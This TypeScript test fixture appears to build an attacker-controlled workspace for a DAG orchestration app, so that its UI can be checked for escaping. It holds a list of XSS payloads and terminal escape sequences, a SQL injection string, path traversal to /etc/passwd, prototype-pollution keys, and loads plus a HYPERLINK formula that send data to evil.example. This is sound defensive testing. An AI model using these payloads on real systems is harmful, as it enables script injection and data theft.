/** A workspace in which every text that the app shows was written by an attacker: names, docs, params, logs, cells, errors. */
import { smallWorkspace, type TestWorkspace } from "./workspaces.ts";

/** What each payload would set, were any of them ever run. */
const boom = "globalThis.__pwned=1";
const esc = "\u001b";

export const markup: readonly string[] = [
  `<img src=x onerror="${boom}">`,
  `<script>${boom}</script>`,
  `"><svg onload="${boom}">`,
  `'><img src=x onerror='${boom}'>`,
  `<iframe srcdoc="<script>top.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<a href="javascript:${boom}">click</a>`,
  `[click](javascript:${boom})`,
  `![x](https://evil.example/pixel.png)`,
  `<img src="https://evil.example/pixel.png">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/y.css";*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input autofocus onfocus="${boom}"></form>`,
  `<details open ontoggle="${boom}">x</details>`,
  `<video><source onerror="${boom}"></video>`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror="${boom}">`,
  `<noscript><p title="</noscript><img src=x onerror='${boom}'>">`,
  `<object data="data:text/html,<script>${boom}</script>"></object>`,
  `<embed src="javascript:${boom}">`,
  `<svg><animate onbegin="${boom}" attributeName=x dur=1s></svg>`,
  `<marquee onstart="${boom}">x</marquee>`,
  `<webview src="https://evil.example/"></webview>`,
  `<button popovertarget=x onclick="${boom}">go</button>`,
  `javascript:${boom}`,
  `data:text/html,<script>${boom}</script>`,
  `file:///etc/passwd`,
  `$\{${boom}}`,
  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
  `'; DROP TABLE tasks; --`,
  `../../../../etc/passwd`,
  `%3Cimg%20src=x%20onerror=${boom}%3E`,
  `&lt;img src=x onerror=${boom}&gt;`,
  `\u202egnp.exe\u202c`,
  `a\u200bb\u2060c\ufeffd`,
  `\u2066\u2069\u061c mixed \u05d0\u05d1`,
  `e\u0301\u0301\u0301\u0301 zalgo`,
];

const names = ["__proto__", "constructor", "toString", "hasOwnProperty", "then"];

/** Only in logs: a terminal would obey these. */
const escapes: readonly string[] = [
  `${esc}]8;;javascript:${boom}${esc}\\link${esc}]8;;${esc}\\`,
  `${esc}]8;;https://evil.example/\u0007link${esc}]8;;\u0007`,
  `${esc}]0;title\u0007`,
  `${esc}]52;c;ZXZpbA==\u0007`,
  `${esc}[2J${esc}[1;1H${esc}[?1049h`,
  `${esc}[31m<img src=x onerror="${boom}">${esc}[0m`,
  `${esc}P1$r0m${esc}\\${esc}_apc${esc}\\`,
  "\u0007\u0008\u000b\u007f\u009b31m",
];

const first = markup[0] ?? "";
const json = (value: unknown): string => JSON.stringify(value).replace(/[\u007f-\uffff]/g, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`);
const quoted = (name: string): string => `"${name.replaceAll('"', '""')}"`;
const literal = (text: string): string => `'${text.replaceAll("'", "''")}'`;
const columns = [...markup, ...names].map((text) => text.slice(0, 120));

export const hostileDag = "hostile";
export const hostileTasks = ["log", "cells", "row_check", "server_error", "hostile_table", "xcom", ...names.slice(1)];
/** What a person looks a run up by. */
export const hostileUser = first;
export const hostileConf = json({ user_id: hostileUser, [first]: markup, __proto__x: names });

/** The canary of a DAG that nobody starts. */
export const canary = "started-by-looking";

export function hostileWorkspace(): TestWorkspace {
  return smallWorkspace({
    "dagwright.json": json({ name: first }),
    "hostile.dag.yaml": json({
      dag: hostileDag,
      owner: first,
      doc: markup.join("\n"),
      tags: markup.slice(0, 8),
      params: Object.fromEntries(markup.map((text, at) => [`p${at}`, { default: text, title: text, description: text }])),
      search_keys: { user_id: "{{ conf.user_id }}", [first]: "{{ params.p1 }}" },
      tasks: {
        log: { config_type: "BashTask", doc: markup.join("\n"), bash: 'cat "$DAGWRIGHT_WORKSPACE/log.txt"; cat "$DAGWRIGHT_WORKSPACE/log.txt" >&2', env: { HOSTILE: first } },
        cells: { config_type: "SqlTask", ddl: "ddl/cells.sql", sql: "cells.sql" },
        row_check: { config_type: "SqlTask", ddl: "ddl/row_check.sql", sql: "cells.sql", checks: [{ unique: columns[0] }, { sql: "select * from {{ this }}", name: first }] },
        server_error: { config_type: "SqlTask", sql: "error.sql" },
        hostile_table: { config_type: "SqlTask", sql: "table.sql" },
        xcom: { config_type: "PythonTask", python: "xcom.py" },
        ...Object.fromEntries(names.slice(1).map((name) => [name, { config_type: "EmptyTask", deps: ["log"] }])),
      },
    }),
    "log.txt": [...markup, ...escapes, ""].join("\n"),
    "ddl/cells.sql": `create table cells (${columns.map((name) => `${quoted(name)} varchar`).join(", ")});\n`,
    "ddl/row_check.sql": `create table row_check (${columns.map((name) => `${quoted(name)} varchar`).join(", ")});\n`,
    "cells.sql": `select ${columns.map((name, at) => `${literal([...markup, ...names][at] ?? "")} as ${quoted(name)}`).join(", ")} from range(3);\n`,
    "error.sql": `select error(${literal(markup.slice(0, 4).join(" "))});\n`,
    "table.sql": `create schema if not exists ${quoted(markup[2] ?? "")};\ncreate or replace table ${quoted(markup[2] ?? "")}.${quoted(first)} as select ${literal(first)} as ${quoted(first)};\n`,
    "xcom.py": `import dagwright\ndagwright.xcom_push(${json(first)}, ${json([...markup])})\n`,
    [`${first.replaceAll("/", "")}.dag.yaml`]: json({ dag: first, owner: first, [first]: first, tasks: { [first]: { config_type: first, deps: [first] } } }),
    "<svg onload=globalThis.__pwned=1>.dag.yaml": "tasks: [<script>globalThis.__pwned=1</script>",
    // Computed, so that it is a key and not the prototype: it is refused, and the refusal is shown.
    "forbidden.dag.yaml": json({ dag: "forbidden", tasks: { ["__proto__"]: { config_type: "EmptyTask" } } }),
    "untouched.dag.yaml": json({ dag: "untouched", doc: first, schedule: "* * * * *", tasks: { touch: { config_type: "BashTask", bash: `touch "$DAGWRIGHT_WORKSPACE/${canary}"` } } }),
  });
}
